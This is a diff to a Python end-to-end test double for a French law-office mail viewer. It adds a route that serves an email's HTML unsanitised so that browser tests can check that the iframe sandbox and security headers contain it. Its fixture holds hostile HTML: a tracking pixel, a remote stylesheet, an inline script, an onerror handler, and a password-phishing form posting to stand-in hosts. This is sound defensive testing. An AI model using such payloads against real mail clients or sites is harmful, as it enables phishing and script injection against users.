@@ -2,7 +2,11 @@
 dossier's mail by thread, a message with its new text, its quoted history, its facts and attachments), answering
 inside ContractDouble so the courrier screens can be checked on their own. The message m-1 carries what the view
 must handle with care: a quoted history holding a fact that must stay apart, a cancelled hearing, an HTML part
-with a remote image and a script (the screen must never render it), an attachment turned into a document.
+with a remote image and a script, an attachment turned into a document.
+
+Its HTML route answers as the API does (handlers/api/inbound_mail.py: the same document around the body, the same
+headers through the same middleware), but with the hostile HTML *unsanitised*, as if the sanitiser had missed it
+all: the browser tests then see the frame's own walls (its policy, the iframe's sandbox) hold on their own.
 """
 
 from __future__ import annotations
@@ -10,8 +14,19 @@ from __future__ import annotations
 from dataclasses import dataclass, field
 from typing import Any
 
+from starlette.datastructures import MutableHeaders
+
+from handlers.api.inbound_mail import FRAMED_HEADERS, framed_document
+from handlers.api.security import protect
+from tests.e2e.dossiers_double import Raw
+
 D1 = {"id": "d-1", "reference": "2026-0001"}  # the mail routes name a dossier without its title
-HOSTILE_HTML = '<p>Bonjour</p><img src="https://pisteur.example/p.gif"><script>document.title="pirate"</script>'
+HOSTILE_HTML = (
+    '<p>Bonjour <b>Maître</b>,</p><img src="https://pisteur.example/p.gif" alt="">'
+    '<link rel="stylesheet" href="https://feuilles.example/s.css"><script>document.title="pirate"</script>'
+    '<img src="/api/pirate-image" alt="" onerror="document.title=\'pirate\'">'
+    '<form action="https://hameconnage.example/"><label>Mot de passe <input name="mdp"></label></form>'
+)
 TEXT_NEW = (
     "Maître,\n\nJe vous informe que l’affaire RG 24/01234 est renvoyée à l’audience du 15 janvier 2027 à 9 h 30.\n"
     "L’audience du 10 décembre 2026 est donc annulée.\n\nBien confraternellement,\nMe Bernard"
@@ -104,6 +119,8 @@ class CourrierDouble:
             case "POST", ["mail", mid, "file"]:
                 mail = next((m for m in self.tray if m["id"] == mid), None)
                 return (200, _plain(self._file(mail, body["dossier_id"]))) if mail else _unknown()
+            case "GET", ["mail", mid, "html"]:
+                return (200, framed_html()) if self.message(mid) else _unknown()
             case "GET", ["mail", mid]:
                 found = self.message(mid)
                 return (200, found) if found else _unknown()
@@ -121,6 +138,12 @@ class CourrierDouble:
                     filed_by_hand=True, suggestion=None)  # fmt: skip
         self.filed.append(mail)
         return mail
+
+
+def framed_html() -> Raw:
+    headers = MutableHeaders(headers=FRAMED_HEADERS)
+    protect(headers)
+    return Raw(framed_document(HOSTILE_HTML).encode(), "text/html; charset=utf-8", dict(headers.items()))
 
 
 def _plain(summary: dict[str, Any]) -> dict[str, Any]:
